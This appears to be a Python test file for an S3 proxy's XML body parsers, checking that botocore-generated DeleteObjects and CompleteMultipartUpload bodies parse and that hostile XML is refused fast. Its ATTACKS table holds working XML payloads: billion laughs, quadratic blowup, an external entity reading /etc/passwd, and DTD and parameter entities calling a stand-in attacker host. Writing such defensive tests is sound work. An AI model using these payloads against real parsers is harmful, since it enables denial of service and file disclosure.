"""DeleteObjects and CompleteMultipartUpload bodies: botocore's bodies parse, hostile XML fails fast."""

from __future__ import annotations

import time
from typing import Any

import boto3
import pytest
from botocore.awsrequest import AWSPreparedRequest
from botocore.config import Config
from hypothesis import given, settings
from hypothesis import strategies as st

from proxy.errors import S3Error
from proxy.s3.xmlbodies import (
    MAX_DELETE_BODY,
    MAX_DELETE_KEYS,
    complete_multipart_parts,
    delete_objects_keys,
)

NS = "http://s3.amazonaws.com/doc/2006-03-01/"


class _Captured(Exception):
    def __init__(self, request: AWSPreparedRequest) -> None:
        super().__init__("captured")
        self.request = request


def _stop_before_send(request: AWSPreparedRequest, **_: Any) -> None:
    raise _Captured(request)


_CLIENT = boto3.client(
    "s3",
    endpoint_url="http://s3.test.local:9000",
    region_name="us-east-1",
    aws_access_key_id="AKIDEXAMPLE",
    aws_secret_access_key="not-a-secret",
    config=Config(retries={"max_attempts": 1}),
)
_CLIENT.meta.events.register("before-send.s3", _stop_before_send)


def botocore_body(operation: str, **params: Any) -> bytes:
    try:
        getattr(_CLIENT, operation)(**params)
    except _Captured as captured:
        body = captured.request.body
        return body if isinstance(body, bytes) else body.encode()
    raise AssertionError(f"{operation} sent nothing")


def delete_body(*objects: str, ns: str = f' xmlns="{NS}"', quiet: str = "") -> bytes:
    return f"<Delete{ns}>{''.join(objects)}{quiet}</Delete>".encode()


def obj(key: str, version: str | None = None) -> str:
    version_xml = f"<VersionId>{version}</VersionId>" if version is not None else ""
    return f"<Object><Key>{key}</Key>{version_xml}</Object>"


def refused(fn: Any, body: bytes) -> S3Error:
    # CPU time, not wall time, and a wide bound: an expanding entity or quadratic parse would burn
    # minutes; a loaded CI machine must not make an honest refusal fail.
    started = time.process_time()
    with pytest.raises(S3Error) as err:
        fn(body)
    assert time.process_time() - started < 5.0
    assert err.value.status == 400
    return err.value


# --- DeleteObjects ------------------------------------------------------------------------------------------


def test_botocore_delete_objects_body_yields_every_key_and_version() -> None:
    objects = [
        {"Key": "models/a.bin"},
        {"Key": "models/ü b+c&<d>.bin", "VersionId": "3/L4kq+x"},
        {"Key": " spaced "},
        {"Key": "a%2Fb"},
    ]
    body = botocore_body("delete_objects", Bucket="data-bucket", Delete={"Objects": objects, "Quiet": True})
    assert delete_objects_keys(body) == tuple((o["Key"], o.get("VersionId")) for o in objects)


@pytest.mark.parametrize("ns", [f' xmlns="{NS}"', ""])
def test_delete_body_with_or_without_the_s3_namespace_parses(ns: str) -> None:
    body = delete_body(obj("a"), obj("b", "v2"), ns=ns, quiet="<Quiet>true</Quiet>")
    assert delete_objects_keys(body) == (("a", None), ("b", "v2"))


def test_delete_keys_are_unescaped_exactly_once() -> None:
    body = delete_body(obj("a&amp;b&lt;c&#x41;&#66;%41"), obj("<![CDATA[x&amp;y]]>"), obj("&amp;amp;"))
    assert delete_objects_keys(body) == (("a&b<cAB%41", None), ("x&amp;y", None), ("&amp;", None))


def test_delete_accepts_the_conditional_fields_of_newer_clients() -> None:
    body = delete_body(
        '<Object><Key>k</Key><ETag>"e"</ETag><LastModifiedTime>2030-01-01T00:00:00Z</LastModifiedTime>'
        "<Size>3</Size></Object>"
    )
    assert delete_objects_keys(body) == (("k", None),)


def test_delete_of_the_maximum_number_of_keys_parses() -> None:
    body = delete_body(*(obj(f"k{i}") for i in range(MAX_DELETE_KEYS)))
    assert len(delete_objects_keys(body)) == MAX_DELETE_KEYS


def test_delete_of_more_keys_than_s3_allows_is_refused() -> None:
    assert refused(delete_objects_keys, delete_body(*(obj(f"k{i}") for i in range(MAX_DELETE_KEYS + 1))))


def test_oversized_delete_body_is_refused_before_parsing() -> None:
    body = delete_body(obj("k")) + b" " * MAX_DELETE_BODY
    assert refused(delete_objects_keys, body).code == "MalformedXML"


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml",
        b"<Delete>",
        b"<Delete></Delet>",
        delete_body(),  # no objects at all
        delete_body(ns=' xmlns="urn:other"'),
        delete_body(obj("a"), ns=' xmlns="urn:other"'),
        b'<Delete xmlns:x="urn:other"><x:Object><Key>a</Key></x:Object></Delete>',
        b"<Objects><Object><Key>a</Key></Object></Objects>",
        delete_body("<Object></Object>"),
        delete_body(obj("")),
        delete_body("<Object><Key>a</Key><Key>b</Key></Object>"),
        delete_body("<Object><Key>a<Key>b</Key></Key></Object>"),
        delete_body("<Object><Key>a</Key><Extra>x</Extra></Object>"),
        delete_body(obj("a"), "<Unexpected/>"),
        delete_body(obj("a"), "stray text"),
        delete_body("<Object>text<Key>a</Key></Object>"),
        delete_body('<Object><Key id="1">a</Key></Object>'),
        delete_body(obj("a", "")),
        delete_body(obj("a"), quiet="<Quiet>true</Quiet><Quiet>false</Quiet>"),
        b"<Delete><Object><Key>a</Key></Object></Delete><Delete/>",
        b'<?xml version="1.0" encoding="x-unknown"?><Delete/>',
        b'<?xml version="1.0" encoding="UTF-16"?><Delete/>',
        b"\xff\xfe<\x00D\x00",
        delete_body(obj("a&#0;b")),
        delete_body(obj("a&#xFFFF;b")),
    ],
)
def test_malformed_delete_bodies_are_refused(body: bytes) -> None:
    assert refused(delete_objects_keys, body).code == "MalformedXML"


@pytest.mark.parametrize("key", ["a/../b", "..", "./x", "a&#10;b", "a&#9;b", "a\\..\\b", "x" * 1025])
def test_delete_keys_get_the_same_safety_checks_as_path_keys(key: str) -> None:
    assert refused(delete_objects_keys, delete_body(obj(key))).code in {"InvalidArgument", "KeyTooLongError"}


# --- XML attacks --------------------------------------------------------------------------------------------

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]><Delete><Object><Key>&lol9;</Key></Object></Delete>"
)
ATTACKS = {
    "billion laughs": BILLION_LAUGHS,
    "external entity": b'<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    b"<Delete><Object><Key>&e;</Key></Object></Delete>",
    "external dtd": b'<!DOCTYPE Delete SYSTEM "http://attacker.invalid/x.dtd">'
    b"<Delete><Object><Key>a</Key></Object></Delete>",
    "parameter entity": b'<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.invalid/p"> %p;]><Delete/>',
    "internal dtd": b"<!DOCTYPE Delete [<!ELEMENT Delete ANY>]><Delete><Object><Key>a</Key></Object>"
    b"</Delete>",
    "quadratic blowup": b'<!DOCTYPE d [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]><Delete><Object><Key>'
    + b"&a;" * 5_000
    + b"</Key></Object></Delete>",
    "deep nesting": b"<a>" * 10_000 + b"</a>" * 10_000,
    "deep nesting in a valid root": b"<Delete><Object><Key>"
    + b"<x>" * 10_000
    + b"</x>" * 10_000
    + b"</Key></Object></Delete>",
    "unclosed deep nesting": b"<Delete>" + b"<Object>" * 100_000,
    "many elements": b"<Delete>" + b"<Quiet/>" * 200_000 + b"</Delete>",
}


@pytest.mark.parametrize("name", list(ATTACKS))
@pytest.mark.parametrize("parse", [delete_objects_keys, complete_multipart_parts])
def test_xml_attacks_are_refused_quickly(name: str, parse: Any) -> None:
    assert refused(parse, ATTACKS[name]).code == "MalformedXML"


@pytest.mark.parametrize(
    "body", [b"<Delete>" + b"<Object>" * 5, b"<Delete><Object><Key><x><y/></x></Key></Object></Delete>"]
)
def test_nesting_deeper_than_any_s3_body_stops_the_parser(body: bytes) -> None:
    assert "nested too deeply" in refused(delete_objects_keys, body).message


# --- CompleteMultipartUpload --------------------------------------------------------------------------------


def test_botocore_complete_multipart_body_yields_every_part() -> None:
    parts = [
        {"PartNumber": 1, "ETag": '"a54357aff0632cce46d942af68356b38"', "ChecksumCRC32": "AAAAAA=="},
        {"PartNumber": 2, "ETag": '"0c78aef83f66abc1fa1e8477f296d394"'},
        {"PartNumber": 10_000, "ETag": "plain", "ChecksumSHA256": "x" * 44},
    ]
    body = botocore_body(
        "complete_multipart_upload",
        Bucket="data-bucket",
        Key="k",
        UploadId="u",
        MultipartUpload={"Parts": parts},
    )
    assert complete_multipart_parts(body) == tuple((p["PartNumber"], p["ETag"]) for p in parts)


def test_complete_body_without_namespace_parses() -> None:
    body = b"<CompleteMultipartUpload><Part><ETag>e</ETag><PartNumber>7</PartNumber></Part>"
    body += b"</CompleteMultipartUpload>"
    assert complete_multipart_parts(body) == ((7, "e"),)


def _complete(*parts: str) -> bytes:
    return f'<CompleteMultipartUpload xmlns="{NS}">{"".join(parts)}</CompleteMultipartUpload>'.encode()


@pytest.mark.parametrize(
    "body",
    [
        _complete(),
        _complete("<Part><PartNumber>1</PartNumber></Part>"),
        _complete("<Part><ETag>e</ETag></Part>"),
        _complete("<Part><PartNumber>1</PartNumber><ETag></ETag></Part>"),
        _complete("<Part><PartNumber>1</PartNumber><ETag>e</ETag><Unknown/></Part>"),
        _complete("<Part><PartNumber>1</PartNumber><PartNumber>2</PartNumber><ETag>e</ETag></Part>"),
        _complete("<Other/>"),
        delete_body(obj("a")),
    ],
)
def test_malformed_complete_bodies_are_refused(body: bytes) -> None:
    assert refused(complete_multipart_parts, body).code == "MalformedXML"


@pytest.mark.parametrize(
    "number", ["0", "10001", "-1", "+1", " 1", "1.0", "abc", "", "1_0", "\uff11", "99999999999"]
)
def test_part_numbers_outside_1_to_10000_are_refused(number: str) -> None:
    body = _complete(f"<Part><PartNumber>{number}</PartNumber><ETag>e</ETag></Part>")
    assert refused(complete_multipart_parts, body).code in {"InvalidArgument", "MalformedXML"}


# --- properties ---------------------------------------------------------------------------------------------

_XML_FRAGMENTS = st.sampled_from(
    [
        "<Delete>",
        "</Delete>",
        f'<Delete xmlns="{NS}">',
        "<Object>",
        "</Object>",
        "<Key>",
        "</Key>",
        "<VersionId>",
        "</VersionId>",
        "<Quiet>true</Quiet>",
        "<CompleteMultipartUpload>",
        "</CompleteMultipartUpload>",
        "<Part>",
        "</Part>",
        "<PartNumber>",
        "</PartNumber>",
        "<ETag>",
        "</ETag>",
        "a",
        "..",
        "/",
        "&amp;",
        "&#0;",
        "&x;",
        "<![CDATA[",
        "]]>",
        "<!DOCTYPE d>",
        "<?xml version='1.0'?>",
        "<!-- c -->",
        " ",
        "1",
        "10001",
    ]
)


@settings(max_examples=1000)
@given(
    body=st.one_of(
        st.binary(max_size=200), st.lists(_XML_FRAGMENTS, max_size=30).map(lambda xs: "".join(xs).encode())
    )
)
def test_xml_parsers_raise_only_s3_errors(body: bytes) -> None:
    for parse in (delete_objects_keys, complete_multipart_parts):
        try:
            result = parse(body)
        except S3Error:
            continue
        assert result  # a successful parse always yields at least one entry


_DELETE_KEYS = st.text(
    st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff"),
    min_size=1,
    max_size=40,
).filter(lambda k: all(s not in (".", "..") for s in k.replace("\\", "/").split("/")))


@settings(max_examples=150, deadline=None)
@given(keys=st.lists(_DELETE_KEYS, min_size=1, max_size=5))
def test_any_keys_botocore_serialises_are_parsed_back_exactly(keys: list[str]) -> None:
    body = botocore_body(
        "delete_objects", Bucket="data-bucket", Delete={"Objects": [{"Key": k} for k in keys]}
    )
    assert delete_objects_keys(body) == tuple((k, None) for k in keys)
